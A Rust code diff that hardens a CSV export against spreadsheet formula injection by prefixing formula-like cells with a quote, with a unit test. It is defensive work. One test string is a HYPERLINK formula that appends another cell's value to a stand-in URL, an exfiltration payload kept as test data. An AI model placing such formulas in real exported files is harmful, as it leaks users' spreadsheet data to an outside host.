@@ -127,6 +127,12 @@ pub async fn export(
     }
 }
 
+/// `cell` as a spreadsheet will show it, never run it: text a provider sent (a SePay transaction
+/// id, say) that starts like a formula gets a leading `'`.
+fn inert(cell: &str) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}") } else { cell.to_owned() }
+}
+
 /// Writes `rows` (objects with the keys of `columns`) as CSV on stdout; null is an empty cell.
 fn write_csv(columns: &[&str], rows: &[Value]) -> Result<(), Failure> {
     let progress = indicatif::ProgressBar::new(rows.len() as u64);
@@ -135,7 +141,7 @@ fn write_csv(columns: &[&str], rows: &[Value]) -> Result<(), Failure> {
     for row in rows {
         out.write_record(columns.iter().map(|c| match &row[*c] {
             Value::Null => String::new(),
-            Value::String(s) => s.clone(),
+            Value::String(s) => inert(s),
             other => other.to_string(),
         }))?;
         progress.inc(1);
@@ -143,4 +149,14 @@ fn write_csv(columns: &[&str], rows: &[Value]) -> Result<(), Failure> {
     out.flush()?;
     progress.finish_and_clear();
     Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn l3_cells_that_start_like_formulas_are_exported_as_text() {
+        assert_eq!(super::inert("=HYPERLINK(\"http://x/\"&B2)"), "'=HYPERLINK(\"http://x/\"&B2)");
+        assert_eq!(super::inert("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(super::inert("FT123"), "FT123");
+    }
 }
